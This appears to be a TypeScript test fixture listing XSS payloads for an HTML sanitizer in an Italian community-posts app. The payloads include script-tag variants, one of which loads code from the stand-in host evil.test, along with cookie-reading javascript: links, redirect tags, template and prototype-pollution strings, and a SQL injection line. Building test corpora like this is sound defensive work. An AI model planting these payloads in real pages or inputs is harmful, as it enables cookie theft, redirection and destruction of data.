/** What an attacker tries. Each calls `alert`, marks the window, asks a foreign host or breaks out of its element. */
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
]
const elements = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'marquee',
  'input autofocus',
  'iframe',
]

const withHandlers = handlers.flatMap((handler) =>
  elements.map((element) => `<${element} ${handler}=alert(1)>`),
)

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<script >alert(1)</script >',
  '< script>alert(1)</ script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>window.hacked=1</script>',
  "';</script><script>alert(1)//",
  '<svg><script>alert(1)</script></svg>',
  '<script\n>alert(1)</script>',
  '<a href="javascript:alert(1)">clicca</a>',
  '<a href="JaVaScRiPt:alert(1)">clicca</a>',
  '<a href="javascript :alert(1)">clicca</a>',
  '[clicca](javascript:alert(1))',
  'javascript:alert(document.cookie)',
]

/** Not one of the forms that are refused: shown to the letter, and nothing more. */
const harmless = [
  'Se a < b e b < c allora a < c',
  'Il listener onclick va tolto, e onload pure',
  '<b>grassetto</b> e <i>corsivo</i>',
  '<img src=https://evil.test/pixel.png>',
  '<iframe src=https://evil.test/></iframe>',
  '<iframe srcdoc="&lt;p&gt;ciao&lt;/p&gt;"></iframe>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<form action=https://evil.test><input name=q></form>',
  '<object data=https://evil.test/x.swf></object>',
  '<embed src=https://evil.test/x.swf>',
  '<a href=data:text/html,ciao>clicca qui adesso</a>',
  '<a href="vbscript:msgbox(1)">clicca qui adesso</a>',
  '</textarea></p></article><h1>Preso!</h1>',
  '</title></style></noscript><h1>Preso!</h1>',
  '<!-- <h1>nascosto</h1> --> visibile',
  '<![CDATA[<h1>Preso!</h1>]]> e il resto',
  '<math><mtext><table><mglyph><h1>Preso!</h1>',
  '<template><h1>Preso!</h1></template>',
  '<noscript><h1>Preso!</h1></noscript>',
  '{{constructor.constructor("alert(1)")()}}',
  '\x24{alert(1)} e `\x24{alert(2)}` nel testo',
  '#{alert(1)} <%= alert(1) %> <?php alert(1) ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x&#62; &amp; &quot;',
  '\\u003cimg src=x\\u003e dice il testo',
  '%3Cimg%20src%3Dx%3E nel testo, codificato',
  'https://evil.test/"><h1>Preso!</h1>',
  '__proto__ constructor toString hasOwnProperty',
  '{"__proto__":{"hacked":true}} in mezzo al testo',
  "'; drop table community_posts; --",
  '1 <2> 3 && 4 || 5 <=> 6 "citazione" \'apice\'',
]

export const xssCorpus: readonly string[] = [...withHandlers, ...scripts, ...harmless]
